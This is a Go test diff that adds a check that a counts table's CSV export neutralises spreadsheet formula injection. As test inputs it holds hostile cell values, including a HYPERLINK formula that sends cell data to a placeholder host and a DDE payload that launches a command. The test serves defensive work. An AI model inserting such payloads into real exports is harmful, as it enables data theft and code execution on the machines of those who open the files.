@@ -1,6 +1,7 @@
 package population
 
 import (
+	"encoding/csv"
 	"strings"
 	"testing"
 	"time"
@@ -44,6 +45,31 @@ func TestG3ARowHasNoWords(t *testing.T) {
 		}
 		if ok && row.Month != "2026-11" {
 			t.Errorf("%+v", row)
+		}
+	}
+}
+
+// What a source wrote is never a formula of whoever opens the counts.
+func TestHostileCountsAreNoFormulas(t *testing.T) {
+	counts := Counts{By: []Dimension{ByCode}}
+	for _, code := range []string{`=HYPERLINK("http://x/?"&A1)`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\n=1", "22298006", "http://snomed.info/sct|22298006", ""} {
+		counts.Cells = append(counts.Cells, Cell{Of: []string{code}, People: 10})
+	}
+	var out strings.Builder
+	if err := counts.CSV(&out); err != nil {
+		t.Fatal(err)
+	}
+	rows, err := csv.NewReader(strings.NewReader(out.String())).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for i, row := range rows[1:] {
+		was := counts.Cells[i].Of[0]
+		if row[0] != "" && strings.ContainsAny(row[0][:1], "=+-@\t\r\n") {
+			t.Errorf("%q is written as %q", was, row[0])
+		}
+		if last := strings.TrimSpace(strings.TrimPrefix(row[0], "'")); last != strings.TrimSpace(was) {
+			t.Errorf("%q is lost: %q", was, row[0])
 		}
 	}
 }
